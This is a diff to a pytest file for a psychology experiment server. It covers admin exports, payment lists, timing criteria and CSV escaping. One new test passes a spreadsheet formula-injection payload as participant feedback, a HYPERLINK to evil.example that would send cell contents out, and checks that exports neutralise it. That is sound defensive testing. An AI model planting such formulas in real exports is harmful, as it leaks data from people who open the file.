@@ -11,7 +11,7 @@ import pytest
 
 from contracts.bundle import load_bundle
 from psychinterp.scripted import run_session
-from tests.server_helpers import correct_choice, start
+from tests.server_helpers import SCRIPTED_CRITERIA, correct_choice, start
 
 PASSWORD = "correct horse battery"
 CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
@@ -27,6 +27,7 @@ def admin_app(tiny_bundle_dir, tmp_path):
             "bundle_dir": tiny_bundle_dir,
             "database_url": f"sqlite:///{tmp_path / 'a.db'}",
             "bonus": {"per_correct_main_trial": 0.05, "flat": 0.5},
+            "criteria": SCRIPTED_CRITERIA,  # the server's minimum times would fail every scripted session
         }
     )
     set_admin_password(app.extensions["psychinterp_db"], "ada", PASSWORD)
@@ -38,7 +39,7 @@ def lenient_app(app, bundle_dir):
     from experiment_server import create_app
 
     config = app.config["PSYCHINTERP"]
-    criteria = {"min_instruction_s": 0, "min_session_s": 0, "min_choices_per_query_row": 0}
+    criteria = {**SCRIPTED_CRITERIA, "min_choices_per_query_row": 0}
     return create_app({**config.model_dump(exclude={"criteria_file"}), "bundle_dir": bundle_dir, "criteria": criteria})
 
 
@@ -126,8 +127,9 @@ def test_dashboard_progress_participants_exports_and_payments(admin_app, tiny_bu
     people = {p["participant_id"]: p for p in client.get("/api/admin/participants").get_json()["participants"]}
     assert people["P-bad"]["status"] == "excluded" and people["P-bad"]["catch_accuracy"] == 0.0
     assert people["P-good"]["catch_accuracy"] == 1.0 and people["P-good"]["session_s"] is not None
-    # The analysis' checks, previewed: a scripted participant is far faster than 135 s.
-    assert any("total time" in check for check in people["P-good"]["failed_checks"])
+    # The analysis' checks, previewed: a scripted participant who always picks the right query uses one
+    # position too rarely for the default five choices per position.
+    assert any("query position" in check for check in people["P-good"]["failed_checks"])
 
     rows = list(csv.DictReader(io.StringIO(client.get("/admin/export/responses.csv").get_data(as_text=True))))
     lines = client.get("/admin/export/responses.jsonl").get_data(as_text=True).splitlines()
@@ -135,7 +137,7 @@ def test_dashboard_progress_participants_exports_and_payments(admin_app, tiny_bu
     assert json.loads(lines[0])["participant_id"] == rows[0]["participant_id"]
     assert {r["trial_kind"] for r in rows} == {"practice", "main", "catch"}
 
-    # Payment lists leave out sessions that fail the server's criteria: this one was too fast for 135 s.
+    # Payment lists leave out sessions that fail the server's criteria: this one chose a position too rarely.
     assert client.get("/admin/export/prolific-approve.txt").get_data(as_text=True) == ""
     client = login(lenient_app(admin_app, tiny_bundle_dir).test_client())
     assert client.get("/admin/export/prolific-approve.txt").get_data(as_text=True) == "P-good\n"
@@ -146,6 +148,11 @@ def test_dashboard_progress_participants_exports_and_payments(admin_app, tiny_bu
     assert approve == [{"AssignmentId": "A1", "WorkerId": "W1", "HITId": "H1", "Approve": "x", "Reject": ""}]
     assert "W1,A1," in client.get("/admin/export/mturk-bonus.csv").get_data(as_text=True)
     assert client.get("/admin/export/nonsense.csv").status_code == 404
+
+    # What the payment lists leave out is listed for review, with why.
+    held = list(csv.DictReader(io.StringIO(client.get("/admin/export/held-for-review.csv").get_data(as_text=True))))
+    assert [(r["participant_id"], r["status"]) for r in held] == [("P-bad", "failed")]
+    assert held[0]["reasons"].startswith("failed by the server: attention")
 
     # Manual exclusion: a POST with the CSRF token; the session leaves the approval list.
     token = csrf_token(client, "/admin/")
@@ -201,3 +208,24 @@ def pd_read(path):
     import pandas as pd
 
     return pd.read_csv(path)
+
+
+def test_csv_exports_quote_text_a_spreadsheet_would_run_as_a_formula(admin_app, tiny_bundle_dir):
+    from experiment_server.export import spreadsheet_safe
+
+    bundle = load_bundle(tiny_bundle_dir)
+    participant = admin_app.test_client()
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    run_session(participant, oracle(bundle, participant), feedback=attack)
+    client = login(admin_app.test_client())
+    rows = list(csv.DictReader(io.StringIO(client.get("/admin/export/responses.csv").get_data(as_text=True))))
+    assert {r["feedback"] for r in rows} == {"'" + attack}
+    assert [spreadsheet_safe(v) for v in ["+1", "-x", "@a", "\tb", "\rc", "ok", -1.5]] == [
+        "'+1",
+        "'-x",
+        "'@a",
+        "'\tb",
+        "'\rc",
+        "ok",
+        -1.5,
+    ]
